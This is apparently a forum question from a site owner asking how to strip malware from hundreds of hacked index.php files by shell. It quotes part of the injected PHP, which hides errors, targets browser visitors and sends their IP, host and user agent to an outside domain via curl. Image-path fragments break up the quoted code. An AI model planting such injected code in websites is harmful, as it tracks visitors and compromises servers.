Find and replace malware code blocks in php files via shell

Today I was attacked by an unknown bot or something like that. It placed the following code in many hundred index.php files on one of my servers, because the FTP-Password was cracked. <?php #19f955# error_reporting(0); ini_set(‘display_errors’,0); $wp_sjqe08340 = @$_SERVER[‘HTTP_USER_AGENT’]; if (( preg_match (‘/Gecko|MSIE/i’, $wp_sjqe08340) && !preg_match (‘/bot/i’, $wp_sjqe08340))){$wp_sjqe0908340=”http://”.”http”.”href”.”.com/href”.”/?ip=”.$_SERVER[‘REMOTE_ADDR’].”&referer=”.urlencode($_SERVER[‘HTTP_HOST’]).”&ua=”.urlencode($wp_sjqe08340);$ch = curl_init(); curl_setopt($ch, CURLOPT_URL,$wp_sjqe0908340); […]